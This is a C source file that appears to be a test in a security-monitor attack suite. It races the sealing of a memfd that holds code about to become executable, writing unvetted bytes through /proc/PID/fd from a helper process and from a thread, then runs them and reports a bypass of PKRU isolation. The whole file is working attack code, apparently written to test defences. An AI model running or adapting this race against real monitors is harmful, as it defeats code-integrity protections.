/* SPDX-License-Identifier: MIT */
/*
 * Code that becomes executable is put into a memfd on a reserved number. Before
 * it is sealed, another process writes to it through /proc/PID/fd, or a thread
 * by its number.
 */
/* Isolation: any */
/* Blocked: 0 */
/* Control: none: the attack is on the monitor's own way to make code */
#include "attack.h"

#include <linux/magic.h>
#include <sys/vfs.h>

static void by_process(pid_t victim)
{
	char path[64];

	prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
	snprintf(path, sizeof(path), "/proc/%d/fd/%d", victim, RFD_VET);
	while (getppid() == victim) {
		int fd = (int)raw(SYS_open, path, O_RDWR, 0);

		if (fd < 0)
			continue;
		(void)raw(SYS_pwrite64, fd, open_pkru, sizeof(open_pkru), 0);
		(void)raw(SYS_close, fd);
	}
	_exit(0);
}

static void *by_thread(void *arg)
{
	(void)arg;
	for (;;)
		(void)raw(SYS_pwrite64, RFD_VET, open_pkru, sizeof(open_pkru), 0);
	return NULL;
}

static void rounds(int count, const char *how)
{
	size_t len = quick(64, 256) * PAGE;

	for (int i = 0; i < count; i++) {
		uint8_t *p =
			mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (p == MAP_FAILED)
			broken("no memory");
		memset(p, 0xc3, len);
		if (make_executable(p, len) == 0 && p[0] != 0xc3) {
			(void)run_code(p, 0, 0);
			succeeded("%s: bytes that nobody vetted are executable, PKRU %#x", how,
				  rdpkru());
		}
		munmap(p, len);
	}
}

void attack(void)
{
	pid_t victim = getpid();
	pid_t helper = fork();

	if (helper == 0)
		by_process(victim);
	rounds(quick(150, 3000), "another process");
	kill(helper, SIGKILL);
	waitpid(helper, NULL, 0);
	thread(by_thread, NULL);
	rounds(quick(60, 1000), "another thread");
}
